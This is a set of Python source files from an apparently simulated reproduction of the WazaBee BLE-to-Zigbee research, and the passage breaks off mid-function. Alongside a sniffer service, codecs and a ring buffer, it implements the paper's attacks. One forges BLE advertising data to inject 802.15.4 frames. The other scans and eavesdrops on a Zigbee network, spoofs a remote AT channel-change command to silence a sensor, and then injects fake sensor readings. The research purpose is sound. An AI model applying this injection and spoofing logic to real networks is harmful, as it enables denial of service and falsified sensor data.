data — the server, CLI and tests all construct it directly.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Optional, Tuple

__all__ = ["BACKPRESSURE_POLICIES", "ServeConfig"]

#: The three per-subscriber flow-control policies (ISSUE wording):
#:
#: ``block``
#:     The broadcaster waits (up to ``stall_timeout_s``) for the slow
#:     subscriber to free a slot — true backpressure; on timeout the
#:     session is declared stalled and disconnected.
#: ``drop-oldest``
#:     The ring evicts its oldest queued record to admit the new one;
#:     every eviction is counted against the session's drop ledger.
#: ``disconnect-slow``
#:     A full ring disconnects the subscriber immediately — protects the
#:     service (and the other subscribers) at the slow client's expense.
BACKPRESSURE_POLICIES = ("block", "drop-oldest", "disconnect-slow")


@dataclass(frozen=True)
class ServeConfig:
    """Every knob of the sniffer service, with service-safe defaults."""

    # -- transport ---------------------------------------------------------
    socket_path: Optional[str] = None  # None: in-process sessions only
    #: Per-send socket timeout; a send that cannot complete within it is
    #: treated as a stalled subscriber.
    send_timeout_s: float = 2.0

    # -- world -------------------------------------------------------------
    channel: int = 14
    seed: int = 1
    #: Stop after this many produced frames; 0 streams until shutdown.
    frames: int = 0
    #: Wall-clock pacing in frames per second; 0 runs flat out.
    rate_fps: float = 0.0
    #: Simulated seconds the world advances per transmitted frame.
    sim_step_s: float = 2e-3
    #: Named radio chaos profile (repro.faults) degrading the bench.
    chaos: Optional[str] = None
    #: Named *service* chaos profile (repro.faults.service): subscriber
    #: stalls, socket errors, burst floods, pipeline crashes.
    service_chaos: Optional[str] = None
    #: Forward the world's trace events to subscribers as ``trace``
    #: records (the first records shed under pressure).
    forward_trace: bool = True

    # -- flow control ------------------------------------------------------
    queue_depth: int = 256
    default_policy: str = "drop-oldest"
    heartbeat_s: float = 0.5
    #: A session whose full ring makes no progress for this long is
    #: stalled (block policy waits at most this long before giving up).
    stall_timeout_s: float = 2.0
    #: A session that consumed nothing at all for this long is closed.
    idle_timeout_s: float = 30.0

    # -- overload degradation ---------------------------------------------
    #: Ring fill fractions at which the ladder sheds trace records,
    #: then corrupt frames, then downsamples valid frames.
    shed_trace_at: float = 0.50
    shed_corrupt_at: float = 0.75
    downsample_at: float = 0.90
    #: Hysteresis subtracted from a threshold before stepping back down.
    shed_hysteresis: float = 0.15
    #: At the downsample level, 1 valid frame in this many is delivered.
    downsample_keep_every: int = 4

    # -- supervision -------------------------------------------------------
    max_stage_restarts: int = 5
    restart_backoff_s: float = 0.05
    restart_backoff_cap_s: float = 1.0

    # -- spool / replay ----------------------------------------------------
    spool_path: Optional[str] = None
    replay_path: Optional[str] = None
    drain_timeout_s: float = 5.0

    def validated(self) -> "ServeConfig":
        """Normalise and bounds-check; returns self (or a fixed copy)."""
        if self.default_policy not in BACKPRESSURE_POLICIES:
            raise ValueError(
                f"unknown backpressure policy {self.default_policy!r}; "
                f"choose from {', '.join(BACKPRESSURE_POLICIES)}"
            )
        if self.queue_depth < 1:
            raise ValueError("queue_depth must be >= 1")
        if self.downsample_keep_every < 1:
            raise ValueError("downsample_keep_every must be >= 1")
        if not (
            0.0 < self.shed_trace_at
            <= self.shed_corrupt_at
            <= self.downsample_at
            <= 1.0
        ):
            raise ValueError(
                "shed thresholds must satisfy "
                "0 < trace <= corrupt <= downsample <= 1"
            )
        if self.frames < 0:
            raise ValueError("frames must be >= 0")
        return self

    def with_(self, **changes) -> "ServeConfig":
        """Functional update (tests tweak one knob at a time)."""
        return replace(self, **changes).validated()
