"""Record shapes and wire codecs for the sniffer service.

Every payload the service moves is a flat JSON-able dict with a ``type``
key — the *record*:

``frame``
    One decoded 802.15.4 frame: ``seq`` (production index), ``time``
    (simulated seconds), ``channel``, ``psdu`` (hex, FCS included),
    ``fcs_ok`` and ``mean_distance`` (decode quality).
``trace``
    One obs-layer trace event, wrapped verbatim — the first record class
    shed under queue pressure.
``notice``
    Service announcements: shed-level changes, drain start, slow-client
    disconnects.  Notices bypass the shed ladder.
``heartbeat``
    Emitted on an idle stream so subscribers can distinguish "quiet
    channel" from "dead service".
``bye``
    The last record of a session, carrying the close reason and the
    session's final delivery ledger.

Two wire formats carry records to subscribers:

* **JSONL** — every record, one ``sort_keys`` JSON object per line.  The
  deterministic key order is what makes spool replay byte-for-byte
  comparable.
* **PCAP** (DLT 195, ``IEEE802_15_4_WITHFCS``) — frame records only;
  control records have no pcap representation and are skipped.  The
  parser half (:func:`parse_pcap`) exists so tests and the CI smoke job
  can validate emitted captures without external tooling.
"""

from __future__ import annotations

import json
import struct
from typing import Any, Dict, IO, Iterator, List, Optional, Tuple

from repro.errors import SpoolError

__all__ = [
    "DLT_IEEE802_15_4",
    "PCAP_SNAPLEN",
    "frame_record",
    "notice_record",
    "heartbeat_record",
    "bye_record",
    "trace_record",
    "encode_jsonl",
    "decode_jsonl",
    "iter_jsonl",
    "pcap_global_header",
    "encode_pcap_record",
    "parse_pcap",
]

#: Link type 195: IEEE 802.15.4 with the FCS trailing each frame —
#: matches :class:`~repro.core.rx.DecodedFrame.psdu`, which keeps it.
DLT_IEEE802_15_4 = 195
#: Max PSDU is 127 bytes; 128 covers every capture without truncation.
PCAP_SNAPLEN = 128

_PCAP_MAGIC = 0xA1B2C3D4
_GLOBAL_HEADER = struct.Struct("<IHHiIII")
_RECORD_HEADER = struct.Struct("<IIII")


# ---------------------------------------------------------------------------
# Record constructors
# ---------------------------------------------------------------------------


def frame_record(
    seq: int,
    time: float,
    channel: int,
    psdu: bytes,
    fcs_ok: bool,
    mean_distance: float = 0.0,
) -> Dict[str, Any]:
    return {
        "type": "frame",
        "seq": seq,
        "time": time,
        "channel": channel,
        "psdu": psdu.hex(),
        "fcs_ok": bool(fcs_ok),
        "mean_distance": float(mean_distance),
    }


def trace_record(event: Dict[str, Any]) -> Dict[str, Any]:
    return {"type": "trace", **event}


def notice_record(kind: str, **fields) -> Dict[str, Any]:
    return {"type": "notice", "kind": kind, **fields}


def heartbeat_record(time: float, delivered: int) -> Dict[str, Any]:
    return {"type": "heartbeat", "time": time, "delivered": delivered}


def bye_record(reason: str, **fields) -> Dict[str, Any]:
    return {"type": "bye", "reason": reason, **fields}


# ---------------------------------------------------------------------------
# JSONL
# ---------------------------------------------------------------------------


def encode_jsonl(record: Dict[str, Any]) -> bytes:
    """One record as one deterministic (sorted-key) JSON line."""
    return (json.dumps(record, sort_keys=True) + "\n").encode("utf-8")


def decode_jsonl(line: bytes) -> Dict[str, Any]:
    return json.loads(line.decode("utf-8"))


def iter_jsonl(stream: IO[bytes]) -> Iterator[Dict[str, Any]]:
    """Yield records from a byte stream, one per line."""
    for line in stream:
        line = line.strip()
        if line:
            yield decode_jsonl(line)


# ---------------------------------------------------------------------------
# PCAP
# ---------------------------------------------------------------------------


def pcap_global_header(snaplen: int = PCAP_SNAPLEN) -> bytes:
    """Classic little-endian pcap file header for DLT 195."""
    return _GLOBAL_HEADER.pack(
        _PCAP_MAGIC, 2, 4, 0, 0, snaplen, DLT_IEEE802_15_4
    )


def encode_pcap_record(record: Dict[str, Any]) -> bytes:
    """One frame record as a pcap record; b"" for control records."""
    if record.get("type") != "frame":
        return b""
    psdu = bytes.fromhex(record["psdu"])
    time = float(record.get("time", 0.0))
    ts_sec = int(time)
    ts_usec = int(round((time - ts_sec) * 1e6))
    if ts_usec >= 1_000_000:  # guard the rounding edge at .999999+
        ts_sec, ts_usec = ts_sec + 1, 0
    header = _RECORD_HEADER.pack(ts_sec, ts_usec, len(psdu), len(psdu))
    return header + psdu


def parse_pcap(
    data: bytes,
) -> Tuple[Dict[str, int], List[Dict[str, Any]]]:
    """Parse a pcap byte string into (header info, packet dicts).

    Strict enough for the CI smoke job: validates the magic, version and
    link type, and that every record's lengths are self-consistent.  A
    truncated final record raises :class:`SpoolError` — a stream cut
    mid-record is exactly what the drain logic must never produce.
    """
    if len(data) < _GLOBAL_HEADER.size:
        raise SpoolError("pcap stream shorter than its global header")
    magic, major, minor, _zone, _sig, snaplen, network = _GLOBAL_HEADER.unpack_from(
        data, 0
    )
    if magic != _PCAP_MAGIC:
        raise SpoolError(f"bad pcap magic 0x{magic:08x}")
    if (major, minor) != (2, 4):
        raise SpoolError(f"unsupported pcap version {major}.{minor}")
    if network != DLT_IEEE802_15_4:
        raise SpoolError(f"unexpected link type {network}")
    header = {
        "version": (major, minor),
        "snaplen": snaplen,
        "network": network,
    }
    packets: List[Dict[str, Any]] = []
    offset = _GLOBAL_HEADER.size
    while offset < len(data):
        if offset + _RECORD_HEADER.size > len(data):
            raise SpoolError("truncated pcap record header")
        ts_sec, ts_usec, incl_len, orig_len = _RECORD_HEADER.unpack_from(
            data, offset
        )
        offset += _RECORD_HEADER.size
        if incl_len != orig_len or incl_len > snaplen:
            raise SpoolError(
                f"inconsistent pcap record lengths ({incl_len}/{orig_len})"
            )
        if offset + incl_len > len(data):
            raise SpoolError("truncated pcap record body")
        packets.append(
            {
                "time": ts_sec + ts_usec / 1e6,
                "psdu": data[offset : offset + incl_len],
            }
        )
        offset += incl_len
    return header, packets
