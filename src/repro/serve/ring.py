"""Per-subscriber bounded ring buffer with explicit overflow accounting.

One :class:`BoundedRing` sits between the broadcast stage and each
subscriber's writer thread.  The ring itself is policy-free — it offers
the three primitive admissions the backpressure policies are built from
(``try_push`` / ``push_evict`` / ``push_wait``) and keeps the counters
the drop ledger reconciles: everything pushed is eventually popped,
evicted, or drained; everything rejected is counted at the caller.
"""

from __future__ import annotations

import threading
import time as _time
from collections import deque
from typing import Any, Deque, Dict, List, Optional

__all__ = ["BoundedRing"]


class BoundedRing:
    """Thread-safe bounded FIFO with eviction and blocking admission."""

    def __init__(self, capacity: int):
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self.capacity = capacity
        self._items: Deque[Any] = deque()
        self._lock = threading.Lock()
        self._not_empty = threading.Condition(self._lock)
        self._not_full = threading.Condition(self._lock)
        # Ledger counters (guarded by _lock).
        self.pushed = 0
        self.popped = 0
        self.evicted = 0
        self.high_water = 0

    # -- producers ----------------------------------------------------------
    def try_push(self, item: Any) -> bool:
        """Admit *item* if a slot is free; never blocks, never evicts."""
        with self._lock:
            if len(self._items) >= self.capacity:
                return False
            self._admit(item)
            return True

    def push_evict(self, item: Any) -> Optional[Any]:
        """Admit *item*, evicting the oldest entry when full.

        Returns the evicted record (so the caller can count what class of
        record was lost) or ``None`` when no eviction was needed.
        """
        with self._lock:
            victim = None
            if len(self._items) >= self.capacity:
                victim = self._items.popleft()
                self.evicted += 1
            self._admit(item)
            return victim

    def push_wait(self, item: Any, timeout_s: float) -> bool:
        """Admit *item*, waiting up to *timeout_s* for a free slot.

        The ``block`` backpressure policy: the producer is throttled to
        the consumer's pace.  Returns False when the wait expired with
        the ring still full — the caller's cue to declare the session
        stalled.
        """
        deadline = _time.monotonic() + timeout_s
        with self._not_full:
            while len(self._items) >= self.capacity:
                remaining = deadline - _time.monotonic()
                if remaining <= 0:
                    return False
                self._not_full.wait(remaining)
            self._admit(item)
            return True

    def _admit(self, item: Any) -> None:
        self._items.append(item)
        self.pushed += 1
        if len(self._items) > self.high_water:
            self.high_water = len(self._items)
        self._not_empty.notify()

    # -- consumer -----------------------------------------------------------
    def pop(self, timeout_s: Optional[float] = None) -> Optional[Any]:
        """Take the oldest record; ``None`` on timeout."""
        with self._not_empty:
            if not self._items and timeout_s is not None:
                self._not_empty.wait(timeout_s)
            if not self._items:
                return None
            item = self._items.popleft()
            self.popped += 1
            self._not_full.notify()
            return item

    def drain(self) -> List[Any]:
        """Remove and return everything queued (shutdown flush)."""
        with self._lock:
            items = list(self._items)
            self._items.clear()
            self.popped += len(items)
            self._not_full.notify_all()
            return items

    # -- introspection ------------------------------------------------------
    def __len__(self) -> int:
        with self._lock:
            return len(self._items)

    @property
    def fill_fraction(self) -> float:
        """Queue pressure in [0, 1] — the shed ladder's input."""
        with self._lock:
            return len(self._items) / self.capacity

    def snapshot(self) -> List[Any]:
        """A consistent copy of the queued items (ledger inspection)."""
        with self._lock:
            return list(self._items)

    def stats(self) -> Dict[str, int]:
        with self._lock:
            return {
                "pushed": self.pushed,
                "popped": self.popped,
                "evicted": self.evicted,
                "queued": len(self._items),
                "high_water": self.high_water,
            }
