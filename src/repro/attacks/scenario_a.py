"""Scenario A: 802.15.4 frame injection from an unrooted smartphone (§VI-B).

The attacker controls only the advertising data of an extended-advertising
set.  The trick chain, straight from the paper:

1. pick the PN sequences (encoded as MSK rotation bits) for the frame to
   transmit — :func:`repro.core.encoding.frame_to_msk_bits`;
2. prepend padding for the headers that precede the advertising data on the
   air (PDU header, extended header, AD framing, company id — 16 bytes);
3. apply the (self-inverse) whitening transform of the *target BLE channel*
   to the padded vector — the controller will whiten the PDU again,
   restoring the raw chip stream on air.  "As this operation depends on
   the channel, it allows to select a specific Zigbee channel";
4. crop the padding and hand the result to the advertising API.

Only events whose CSA#2 draw equals the target BLE channel produce a valid
802.15.4 frame; the attacker simply advertises at the smallest interval.
The reception primitive is impossible at this privilege level (invalid BLE
frames never leave the controller), which the chip model enforces.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field
from typing import Callable, List, Optional

import numpy as np

from repro.ble.packets import manufacturer_data
from repro.ble.whitening import whiten
from repro.chips.smartphone import AdvertisingEvent, SmartphoneBle
from repro.core.channel_map import ble_channel_for_zigbee
from repro.core.encoding import frame_to_msk_bits
from repro.dot15d4.frames import MacFrame
from repro.obs import ATTACK_STAGE
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.utils.bits import pack_bits

__all__ = ["forge_advertising_data", "SmartphoneInjectionAttack"]

#: Nordic Semiconductor's Bluetooth company identifier — any value works;
#: the two bytes are part of the uncontrolled padding.
DEFAULT_COMPANY_ID = 0x0059


def forge_advertising_data(
    psdu: bytes,
    ble_channel: int,
    company_id: int = DEFAULT_COMPANY_ID,
    padding_bytes: Optional[int] = None,
) -> bytes:
    """Build the AD structures that inject *psdu* on *ble_channel*.

    Returns the advertising-data bytes to pass to the smartphone API.
    Raises ``ValueError`` when the frame is too large for one AUX_ADV_IND.
    """
    if padding_bytes is None:
        padding_bytes = SmartphoneBle.aux_data_offset_bytes() + 4
    msk_bits = frame_to_msk_bits(psdu)
    padded = np.concatenate(
        [np.zeros(8 * padding_bytes, dtype=np.uint8), msk_bits]
    )
    pad_tail = (-padded.size) % 8
    if pad_tail:
        padded = np.concatenate([padded, np.zeros(pad_tail, dtype=np.uint8)])
    dewhitened = whiten(padded, ble_channel)
    data = pack_bits(dewhitened[8 * padding_bytes :])
    ad = manufacturer_data(company_id, data).to_bytes()
    if len(ad) > 245:
        raise ValueError(
            f"frame too large for extended advertising: AD is {len(ad)} bytes "
            "(max 245); use a PSDU of at most ~24 bytes"
        )
    return ad


@dataclass
class InjectionRecord:
    """Bookkeeping for one advertising event."""

    event: AdvertisingEvent
    on_target_channel: bool


class SmartphoneInjectionAttack:
    """Drives the smartphone API to inject a fixed 802.15.4 frame."""

    def __init__(
        self,
        phone: SmartphoneBle,
        zigbee_channel: int,
        frame: MacFrame,
        company_id: int = DEFAULT_COMPANY_ID,
    ):
        ble_channel = ble_channel_for_zigbee(zigbee_channel)
        if ble_channel is None:
            raise ValueError(
                f"Zigbee channel {zigbee_channel} has no BLE channel at the "
                "same frequency; a high-level-API attacker can only reach "
                "the common channels of Table II"
            )
        self.phone = phone
        self.zigbee_channel = zigbee_channel
        self.ble_channel = ble_channel
        self.frame = frame
        self.company_id = company_id
        self.adv_data = forge_advertising_data(
            frame.to_bytes(), ble_channel, company_id=company_id
        )
        self.records: List[InjectionRecord] = []
        self.trace = _current_bus()
        self.metrics = _current_metrics()
        self._sequence = frame.sequence_number
        self._target_hits: Optional[int] = None
        self._max_events = 0
        self._bounded_on_complete: Optional[
            Callable[["SmartphoneInjectionAttack", bool], None]
        ] = None
        self._bounded_done = False

    def _now(self) -> float:
        return getattr(getattr(self.phone, "_scheduler", None), "now", 0.0)

    def _stage(self, stage: str, **fields) -> None:
        self.metrics.counter(f"attack.a.stage.{stage}").inc()
        if self.trace.active:
            self.trace.emit(
                ATTACK_STAGE,
                time=self._now(),
                scenario="smartphone-injection",
                stage=stage,
                **fields,
            )

    def start(self, interval_s: float = 0.1) -> None:
        """Begin advertising; each event is recorded with its CSA#2 draw."""
        self._stage(
            "advertising",
            zigbee_channel=self.zigbee_channel,
            ble_channel=self.ble_channel,
        )
        self.phone.start_extended_advertising(
            self.adv_data,
            interval_s=interval_s,
            event_callback=self._on_event,
        )

    def start_bounded(
        self,
        target_hits: int = 1,
        max_events: int = 200,
        interval_s: float = 0.1,
        on_complete: Optional[Callable[["SmartphoneInjectionAttack", bool], None]] = None,
    ) -> None:
        """Repeat mode with a budget: advertise until *target_hits* events
        have landed on the target BLE channel or *max_events* events have
        elapsed, then stop and report success via *on_complete*.

        The unbounded :meth:`start` runs forever (the paper's "advertise at
        the smallest interval"); this variant gives benches and attack
        workflows a guaranteed termination point.  With a full channel map
        each event hits with probability 1/37, so ``max_events=200`` gives
        ≈99.6% success for a single hit.
        """
        if target_hits < 1:
            raise ValueError("target_hits must be >= 1")
        if max_events < 1:
            raise ValueError("max_events must be >= 1")
        self._target_hits = target_hits
        self._max_events = max_events
        self._bounded_on_complete = on_complete
        self._bounded_done = False
        self.start(interval_s=interval_s)

    def stop(self) -> None:
        self.phone.stop_advertising()

    def _finish_bounded(self, success: bool) -> None:
        if self._bounded_done:
            return
        self._bounded_done = True
        self.stop()
        self._stage(
            "done" if success else "exhausted",
            events_total=self.events_total,
            events_on_target=self.events_on_target,
        )
        if self._bounded_on_complete is not None:
            self._bounded_on_complete(self, success)

    def _on_event(self, event: AdvertisingEvent) -> None:
        on_target = event.secondary_channel == self.ble_channel
        self.records.append(
            InjectionRecord(event=event, on_target_channel=on_target)
        )
        self.metrics.counter("attack.a.events").inc()
        if on_target:
            self.metrics.counter("attack.a.events.on_target").inc()
        if self._target_hits is not None and not self._bounded_done:
            if self.events_on_target >= self._target_hits:
                self._finish_bounded(True)
                return
            if self.events_total >= self._max_events:
                self._finish_bounded(False)
                return
        # Rotate the MAC sequence number between events so the target's
        # duplicate-rejection does not swallow repeated injections — the app
        # legitimately updates its advertising data via the standard API.
        self._sequence = (self._sequence + 1) & 0xFF
        rotated = dataclasses.replace(self.frame, sequence_number=self._sequence)
        self.phone.set_advertising_data(
            forge_advertising_data(
                rotated.to_bytes(), self.ble_channel, company_id=self.company_id
            )
        )

    # -- statistics -----------------------------------------------------------
    @property
    def events_total(self) -> int:
        return len(self.records)

    @property
    def events_on_target(self) -> int:
        return sum(1 for r in self.records if r.on_target_channel)

    def hit_rate(self) -> float:
        """Fraction of advertising events that landed on the target channel
        (expected ≈ 1/37 with a full channel map)."""
        if not self.records:
            return 0.0
        return self.events_on_target / self.events_total
