"""Scenario B: complex Zigbee attack from a compromised BLE tracker (§VI-C).

Four stages, exactly as the paper's figure 5 workflow:

1. **Active scanning** — transmit a Beacon Request per channel, wait for a
   Beacon; collect channel, PAN id and coordinator address.
2. **Eavesdropping** — sniff legitimate data frames to learn the sensor's
   address.
3. **Remote AT command injection** — forge a remote AT ``CH`` command with
   the coordinator's address as source and the sensor's as destination,
   forcing the sensor onto another channel (the Vaccari et al. denial of
   service).
4. **Fake data injection** — impersonate the silenced sensor, feeding
   attacker-chosen readings to the coordinator's display.

Everything is event-driven on the simulation scheduler; the attack keeps a
timestamped log so benches/tests can assert the workflow.

Robustness model: every stage that waits on the environment is bounded.
Stages 1 and 2 get ``max_stage_retries`` re-attempts with exponential
backoff (scan repeats, eavesdrop windows double); a global watchdog caps
the whole workflow.  Exhausting a budget terminates in
:attr:`AttackPhase.FAILED` with a structured :class:`StageDiagnosis` — the
attack never hangs indefinitely.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, Dict, List, Optional, Sequence

from repro.core.firmware import ReliableSendResult, ScanResult, WazaBeeFirmware
from repro.core.rx import DecodedFrame
from repro.dot15d4.channels import ZIGBEE_CHANNELS
from repro.dot15d4.frames import Address, FrameType, MacFrame, build_data
from repro.obs import ATTACK_STAGE
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.radio.scheduler import EventHandle
from repro.zigbee.xbee import AtCommand, RemoteAtCommand, SensorReading

__all__ = ["AttackPhase", "TrackerAttack", "AttackLogEntry", "StageDiagnosis"]


class AttackPhase(Enum):
    IDLE = "idle"
    SCANNING = "scanning"
    EAVESDROPPING = "eavesdropping"
    AT_INJECTION = "at-injection"
    SPOOFING = "spoofing"
    DONE = "done"
    FAILED = "failed"


@dataclass
class AttackLogEntry:
    time: float
    phase: AttackPhase
    message: str


@dataclass
class StageDiagnosis:
    """Structured post-mortem for a failed (or watchdog-killed) stage."""

    stage: AttackPhase
    attempts: int
    elapsed_s: float
    reason: str
    suggestion: str = ""

    def __str__(self) -> str:  # pragma: no cover - formatting helper
        text = (
            f"{self.stage.value} failed after {self.attempts} attempt(s) "
            f"and {self.elapsed_s:.3f}s: {self.reason}"
        )
        if self.suggestion:
            text += f" ({self.suggestion})"
        return text


class TrackerAttack:
    """The §VI-C attack state machine, running on WazaBee firmware."""

    def __init__(
        self,
        firmware: WazaBeeFirmware,
        channels: Sequence[int] = ZIGBEE_CHANNELS,
        target_pan_id: Optional[int] = None,
        dos_channel: int = 26,
        fake_value: int = 99,
        fake_report_interval_s: float = 2.0,
        fake_report_count: int = 5,
        eavesdrop_timeout_s: float = 6.0,
        scan_dwell_s: float = 0.05,
        at_injection_delay_s: float = 0.01,
        at_injection_repeats: int = 3,
        max_stage_retries: int = 1,
        retry_backoff_s: float = 0.1,
        max_attack_duration_s: Optional[float] = 120.0,
        reliable_spoofing: bool = False,
        spoof_max_attempts: int = 4,
    ):
        self.firmware = firmware
        self.channels = list(channels)
        self.target_pan_id = target_pan_id
        self.dos_channel = dos_channel
        self.fake_value = fake_value
        self.fake_report_interval_s = fake_report_interval_s
        self.fake_report_count = fake_report_count
        self.eavesdrop_timeout_s = eavesdrop_timeout_s
        self.scan_dwell_s = scan_dwell_s
        self.at_injection_delay_s = at_injection_delay_s
        self.at_injection_repeats = at_injection_repeats
        self.max_stage_retries = max_stage_retries
        self.retry_backoff_s = retry_backoff_s
        self.max_attack_duration_s = max_attack_duration_s
        self.reliable_spoofing = reliable_spoofing
        self.spoof_max_attempts = spoof_max_attempts

        self.phase = AttackPhase.IDLE
        self.trace = _current_bus()
        self.metrics = _current_metrics()
        self.log: List[AttackLogEntry] = []
        self.network: Optional[ScanResult] = None
        self.sensor_address: Optional[Address] = None
        self.coordinator_address: Optional[Address] = None
        self.fake_reports_sent = 0
        self.fake_reports_delivered = 0
        self.diagnosis: Optional[StageDiagnosis] = None
        self.stage_attempts: Dict[AttackPhase, int] = {}
        self._fake_counter = 1000
        self._started_at = 0.0
        self._stage_started_at = 0.0
        self._watchdog: Optional[EventHandle] = None
        self._on_complete: Optional[Callable[["TrackerAttack"], None]] = None

    # -- public ------------------------------------------------------------
    def run(
        self, on_complete: Optional[Callable[["TrackerAttack"], None]] = None
    ) -> None:
        """Start the attack; phases advance via scheduled callbacks."""
        self._on_complete = on_complete
        self._started_at = self.scheduler.now
        if self.max_attack_duration_s is not None:
            self._watchdog = self.scheduler.schedule(
                self.max_attack_duration_s, self._watchdog_fired
            )
        self._enter(AttackPhase.SCANNING, "starting active scan")
        self._start_scan()

    @property
    def scheduler(self):
        return self.firmware.scheduler

    def _log(self, message: str) -> None:
        self.log.append(
            AttackLogEntry(time=self.scheduler.now, phase=self.phase, message=message)
        )

    def _enter(self, phase: AttackPhase, message: str) -> None:
        self.phase = phase
        self._stage_started_at = self.scheduler.now
        self.stage_attempts.setdefault(phase, 0)
        self.metrics.counter(f"attack.b.stage.{phase.value}").inc()
        if self.trace.active:
            self.trace.emit(
                ATTACK_STAGE,
                time=self.scheduler.now,
                scenario="tracker",
                stage=phase.value,
                message=message,
            )
        self._log(message)

    def _stage_backoff(self, attempt: int) -> float:
        """Exponential backoff before re-attempting a stage (doubles)."""
        return self.retry_backoff_s * (2 ** max(attempt - 1, 0))

    def _finish(self) -> None:
        if self._watchdog is not None:
            self._watchdog.cancel()
            self._watchdog = None
        if self._on_complete is not None:
            self._on_complete(self)

    def _fail(self, message: str, suggestion: str = "") -> None:
        stage = self.phase
        self.diagnosis = StageDiagnosis(
            stage=stage,
            attempts=self.stage_attempts.get(stage, 0),
            elapsed_s=self.scheduler.now - self._stage_started_at,
            reason=message,
            suggestion=suggestion,
        )
        self._enter(AttackPhase.FAILED, message)
        self._finish()

    def _watchdog_fired(self) -> None:
        self._watchdog = None
        if self.phase in (AttackPhase.DONE, AttackPhase.FAILED):
            return
        self.firmware.stop_sniffer()
        self._fail(
            f"watchdog expired after {self.max_attack_duration_s}s in stage "
            f"{self.phase.value}",
            suggestion="raise max_attack_duration_s or inspect the stalled stage",
        )

    # -- stage 1 → 2 ---------------------------------------------------------
    def _start_scan(self) -> None:
        self.stage_attempts[AttackPhase.SCANNING] = (
            self.stage_attempts.get(AttackPhase.SCANNING, 0) + 1
        )
        self.firmware.active_scan(
            self.channels, dwell_s=self.scan_dwell_s, on_complete=self._scanned
        )

    def _scanned(self, results: List[ScanResult]) -> None:
        if self.phase is not AttackPhase.SCANNING:
            return
        for result in results:
            if self.target_pan_id is None or result.pan_id == self.target_pan_id:
                self.network = result
                break
        if self.network is None:
            attempt = self.stage_attempts[AttackPhase.SCANNING]
            if attempt <= self.max_stage_retries:
                backoff = self._stage_backoff(attempt)
                self._log(
                    f"scan attempt {attempt} found nothing; retrying in "
                    f"{backoff:.3f}s"
                )
                self.scheduler.schedule(backoff, self._start_scan)
                return
            self._fail(
                f"no network found on channels {self.channels}",
                suggestion="widen the channel list or increase scan_dwell_s",
            )
            return
        self.coordinator_address = Address(
            pan_id=self.network.pan_id, address=self.network.coordinator_address
        )
        self._enter(
            AttackPhase.EAVESDROPPING,
            f"found PAN 0x{self.network.pan_id:04x} on channel "
            f"{self.network.channel} (coordinator {self.coordinator_address})",
        )
        self.stage_attempts[AttackPhase.EAVESDROPPING] = 1
        self.firmware.start_sniffer(self.network.channel, self._sniffed)
        self.scheduler.schedule(self.eavesdrop_timeout_s, self._eavesdrop_timeout)

    # -- stage 2 → 3 ---------------------------------------------------------
    def _sniffed(self, frame: MacFrame, _decoded: DecodedFrame) -> None:
        if self.phase is not AttackPhase.EAVESDROPPING:
            return
        if frame.frame_type is not FrameType.DATA or frame.source is None:
            return
        if frame.destination is None or self.coordinator_address is None:
            return
        if frame.destination.address != self.coordinator_address.address:
            return
        self.sensor_address = frame.source
        self._log(f"identified sensor {self.sensor_address}")
        self._inject_at_command()

    def _eavesdrop_timeout(self) -> None:
        if self.phase is not AttackPhase.EAVESDROPPING or self.sensor_address:
            return
        attempt = self.stage_attempts[AttackPhase.EAVESDROPPING]
        if attempt <= self.max_stage_retries:
            # The sniffer keeps running; double the listening window — the
            # sensor may simply report at a long period.
            self.stage_attempts[AttackPhase.EAVESDROPPING] = attempt + 1
            window = self.eavesdrop_timeout_s * (2**attempt)
            self._log(
                f"eavesdrop window {attempt} elapsed without sensor traffic; "
                f"extending by {window:.3f}s"
            )
            self.scheduler.schedule(window, self._eavesdrop_timeout)
            return
        self.firmware.stop_sniffer()
        self._fail(
            "eavesdropping timed out without seeing sensor traffic",
            suggestion="increase eavesdrop_timeout_s or max_stage_retries",
        )

    # -- stage 3 → 4 ---------------------------------------------------------
    def _inject_at_command(self) -> None:
        assert self.network and self.sensor_address and self.coordinator_address
        self._enter(
            AttackPhase.AT_INJECTION,
            f"injecting remote AT CH={self.dos_channel} spoofed from "
            f"{self.coordinator_address}",
        )
        self.stage_attempts[AttackPhase.AT_INJECTION] = 1
        self.firmware.stop_sniffer()
        # The sniffed report is typically followed by the coordinator's
        # acknowledgement; transmitting repeats with a small delay keeps the
        # command clear of that exchange (the attacker cannot carrier-sense).
        for repeat in range(self.at_injection_repeats):
            self.scheduler.schedule(
                self.at_injection_delay_s * (repeat + 1),
                lambda r=repeat: self._send_at_command(r),
            )
        spoof_start = self.at_injection_delay_s * self.at_injection_repeats
        self.scheduler.schedule(
            spoof_start,
            lambda: self._enter(AttackPhase.SPOOFING, "starting fake data injection"),
        )
        self.scheduler.schedule(
            spoof_start + self.fake_report_interval_s, self._send_fake_report
        )

    def _send_at_command(self, repeat: int) -> None:
        assert self.network and self.sensor_address and self.coordinator_address
        command = RemoteAtCommand(
            command=AtCommand.CHANNEL, parameter=bytes([self.dos_channel])
        )
        frame = build_data(
            source=self.coordinator_address,
            destination=self.sensor_address,
            payload=command.to_payload(),
            sequence_number=(0x70 + repeat) & 0xFF,
            ack_request=False,
        )
        self.firmware.send_frame(frame, self.network.channel)
        self._log(f"remote AT CH command sent (attempt {repeat + 1})")

    # -- stage 4 -----------------------------------------------------------------
    def _send_fake_report(self) -> None:
        if self.phase is not AttackPhase.SPOOFING:
            return
        assert self.network and self.sensor_address and self.coordinator_address
        self.stage_attempts[AttackPhase.SPOOFING] = (
            self.stage_attempts.get(AttackPhase.SPOOFING, 0) + 1
        )
        self._fake_counter += 1
        reading = SensorReading(counter=self._fake_counter, value=self.fake_value)
        frame = build_data(
            source=self.sensor_address,
            destination=self.coordinator_address,
            payload=reading.to_payload(),
            sequence_number=self._fake_counter & 0xFF,
            ack_request=True,
        )
        if self.reliable_spoofing:
            self.firmware.send_frame_reliable(
                frame,
                self.network.channel,
                max_attempts=self.spoof_max_attempts,
                on_result=self._fake_report_result,
            )
            return
        self.firmware.send_frame(frame, self.network.channel)
        self._after_fake_report()

    def _fake_report_result(self, result: ReliableSendResult) -> None:
        if self.phase is not AttackPhase.SPOOFING:
            return
        if result.delivered:
            self.fake_reports_delivered += 1
            self._log(
